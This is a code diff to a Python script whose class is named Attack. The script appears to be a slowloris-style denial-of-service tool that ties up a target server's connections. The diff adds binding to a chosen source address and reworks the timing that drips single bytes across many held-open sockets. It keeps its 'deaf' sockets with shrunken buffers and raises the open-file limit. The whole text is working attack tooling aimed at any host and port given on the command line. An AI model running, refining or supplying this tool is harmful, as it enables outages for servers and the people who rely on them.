@@ -33,6 +33,7 @@ class Attack:
             if deaf:
                 s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                 s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, DEAF_SNDBUF)
+            s.bind((self.o.source, 0))
             s.connect((self.o.host, self.o.port))
             s.setblocking(False)
             self.did["connected"] += 1
@@ -62,17 +63,15 @@ class Attack:
         self.did["deaf_stuck"] = sum(s.fileno() >= 0 for s in deaf)
 
     def drip(self, slow):
-        """A byte of each by turns, a hundred at a time."""
-        if not slow:
-            while not self.stop:
-                time.sleep(0.1)
-            return
-        pause, turns = 100 * self.o.every / len(slow), itertools.cycle(slow)
+        """A byte of each by turns."""
+        turns, due = itertools.cycle(slow), 0.0
         while not self.stop:
-            for s in itertools.islice(turns, 100):
+            due += len(slow) * 0.1 / self.o.every
+            for s in itertools.islice(turns, int(due)):
                 if s.fileno() >= 0:
                     self.send(s, b"x", "slow_bytes")
-            time.sleep(pause)
+            due %= 1
+            time.sleep(0.1)
 
     def run(self):
         resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
@@ -86,6 +85,7 @@ class Attack:
 parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
 parser.add_argument("host")
 parser.add_argument("port", type=int)
+parser.add_argument("--source", default="0.0.0.0", metavar="ADDRESS")
 parser.add_argument("--slow", type=int, default=0, metavar="N")
 parser.add_argument("--every", type=float, default=10, metavar="S")
 parser.add_argument("--deaf", type=int, default=0, metavar="N")
